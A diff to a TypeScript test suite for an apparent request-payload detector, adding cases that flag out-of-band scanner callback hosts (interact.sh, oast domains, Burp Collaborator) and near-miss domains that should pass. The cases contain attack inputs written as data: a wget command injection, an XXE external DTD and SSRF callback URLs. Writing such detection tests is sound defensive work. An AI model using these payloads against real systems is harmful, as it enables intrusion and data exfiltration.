@@ -843,6 +843,24 @@ const SERVER_SCRIPT: Case[] = [
   ["body:xml", '<%@ Page Language="C#" %>\n<script Language="c#" runat="server">\nvoid Page_Load(object sender, EventArgs e)\n{\n    Response.Write("x");\n}\n</script>'],
 ];
 
+// A scanner's out-of-band interaction host (oasthost.ts) in a text with a '/': the class a lexer
+// confirmed in the request, else scanner. A lone host is not read (its cost in every text).
+const OAST_HOST: Case[] = [
+  ["query", "url=http://www.interact.sh"],
+  ["query", "u=https://abc123.oast.fun/x"],
+  ["query", "cmd=wget http://abc.oast.fun"],
+  ["header:Cookie", "X-AnonResource=true; X-AnonResource-Backend=sdedlkf80jbcx4fhaabr.oast.site/ecp/default.flt?~3;"],
+  ["body:xml", '<?xml version="1.0"?><!DOCTYPE m SYSTEM "http://k1by2gtt74.OAST.LIVE/test.xml"><m/>'],
+  ["body:json", JSON.stringify({ callback: "https://x.burpcollaborator.net:443/a" })],
+];
+const NOT_OAST_HOST: Case[] = [
+  ["query", "u=https://toast.live/menu"],
+  ["query", "u=https://roast.site/menu"],
+  ["query", "u=https://oast.me.example.com/"],
+  ["query", "u=https://interact.shop/"],
+  ["query", "u=https://webhook.site/abc"],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
   ["in a JSON document in a JSON string", "crlf|rce", NESTED_JSON, NOT_NESTED_JSON],
   ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
@@ -861,6 +879,7 @@ describeVerdicts("%s payload verdicts", () => core, [
   ["event-handler", "xss", EVENT_HANDLER, NOT_EVENT_HANDLER],
   ["script-element", "xss", SCRIPT_ELEMENT, NOT_SCRIPT_ELEMENT],
   ["handler-attribute", "xss", HANDLER_ATTRIBUTE, NOT_HANDLER_ATTRIBUTE],
+  ["oast-host", "scanner|ssrf|rce|open_redirect|xxe", OAST_HOST, NOT_OAST_HOST],
   ["server-script-element", "rce", SERVER_SCRIPT, []],
   ["php-superglobal", "rce", PHP_SUPERGLOBAL, NOT_PHP_SUPERGLOBAL],
   ["command-injection", "rce", COMMAND_INJECTION, NOT_COMMAND_INJECTION],
